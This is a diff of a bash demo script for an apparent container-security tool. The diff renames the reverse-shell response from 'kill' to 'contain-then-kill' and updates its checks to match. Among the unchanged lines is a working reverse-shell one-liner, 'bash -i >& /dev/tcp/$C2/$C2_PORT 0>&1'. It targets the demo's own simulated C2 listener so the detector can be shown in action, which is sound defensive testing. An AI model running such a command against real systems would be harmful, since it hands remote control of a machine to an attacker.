@@ -428,7 +428,7 @@ main() {
 	printf '   %s# ircontain policy apply policy.yaml%s\n' "$B" "$N"
 	if irc --json policy apply "$TMP/policy.yaml" >"$TMP/apply.json" 2>"$TMP/apply.err" &&
 	   jq -e '.mode == "enforce" and .allowlist == 1 and .detectors.portscan.threshold == 10
-		  and .detectors.reverse_shell.action == "kill"' "$TMP/apply.json" >/dev/null; then
+		  and .detectors.reverse_shell.action == "contain-then-kill"' "$TMP/apply.json" >/dev/null; then
 		jq -r '"      applied: mode \(.mode), \(.allowlist) allowlist entry, " +
 			([.detectors | to_entries[] | select(.value.enabled) |
 			  "\(.key) \(.value.action)"] | join(", "))' "$TMP/apply.json"
@@ -519,7 +519,7 @@ main() {
 	pause
 
 	# ---- 4 --------------------------------------------------------------------------
-	step 4 "A compromised process opens a reverse shell; the kernel kills it"
+	step 4 "A compromised process opens a reverse shell; the kernel stops it, the controller snapshots and kills it"
 
 	# The attacker's C2 listener (the attacker's own address is quarantined, so
 	# it has a second machine): records what it receives.
@@ -536,13 +536,13 @@ main() {
 		timeout 5 bash -c "bash -i >& /dev/tcp/$C2/$C2_PORT 0>&1" </dev/null >/dev/null 2>&1
 	rc=$?
 	info "the shell's exit status: $rc$( ((rc == 137)) && echo ' (SIGKILL)')"
-	if ((rc == 137)); then ok "reverse shell killed by the kernel (exit 137)"
-	else failed "reverse shell killed by the kernel (exit $rc, expected 137)"; fi
+	if ((rc == 137)); then ok "reverse shell stopped by the kernel, then killed (exit 137)"
+	else failed "reverse shell stopped by the kernel, then killed (exit $rc, expected 137)"; fi
 	# One selector for the demo's own finding: other processes on the machine
 	# are seen too, the cgroup tells ours apart.
 	RS_SEL="(.ircontain.cgroup_id == $CGID or ((.ircontain.cgroup // \"\") | contains(\"$ID/webapp\")))"
-	expect "controller logged reverse_shell_detected, action kill, enforced" \
-		wait_for 3 has_event reverse_shell_detected "$RS_SEL and .ircontain.finding.action == \"kill\" and .ircontain.finding.enforced == true"
+	expect "controller logged reverse_shell_detected, action contain-then-kill, enforced" \
+		wait_for 3 has_event reverse_shell_detected "$RS_SEL and .ircontain.finding.action == \"contain-then-kill\" and .ircontain.finding.enforced == true"
 	wait_for 3 grep -q 'accepting connection' "$TMP/c2.log"
 	c2_bytes=$(stat -c %s "$TMP/c2.out" 2>/dev/null || echo 0)
 	c2_peer=$(sed -n 's/.*accepting connection from AF=[0-9]* \([^ ]*\).*/\1/p' "$TMP/c2.log" | head -1)
